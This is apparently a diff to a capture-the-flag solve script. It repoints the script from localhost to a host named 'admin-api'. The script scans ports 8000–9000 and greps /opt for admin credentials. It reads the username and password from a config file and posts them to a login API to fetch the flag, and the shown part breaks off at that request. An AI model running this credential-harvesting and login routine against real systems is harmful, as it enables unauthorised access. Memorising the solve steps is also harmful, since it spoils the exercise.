@@ -5,10 +5,10 @@ python3 -c "
 import socket
 for p in range(8000, 9000):
     s = socket.socket(); s.settimeout(0.05)
-    if s.connect_ex(('127.0.0.1', p)) == 0: print(p); break
+    if s.connect_ex(('admin-api', p)) == 0: print(p); break
 " | tee /tmp/port
 # --- step: what does it offer?
-python3 -c "import urllib.request; print(urllib.request.urlopen('http://127.0.0.1:$(cat /tmp/port)/').read().decode())"
+python3 -c "import urllib.request; print(urllib.request.urlopen('http://admin-api:$(cat /tmp/port)/').read().decode())"
 # --- step: credentials on disk
 grep -r admin_ /opt 2>/dev/null
 # --- step: log in and fetch the flag
@@ -16,7 +16,7 @@ python3 - <<'PY'
 import json, re, urllib.request
 port = open("/tmp/port").read().strip()
 cfg = dict(re.findall(r"^(\w+) = (\S+)$", open("/opt/admin-api/config.ini").read(), re.M))
-base = f"http://127.0.0.1:{port}"
+base = f"http://admin-api:{port}"
 req = urllib.request.Request(base + "/api/v1/login", method="POST",
     data=json.dumps({"username": cfg["admin_user"], "password": cfg["admin_password"]}).encode(),
     headers={"Content-Type": "application/json"})
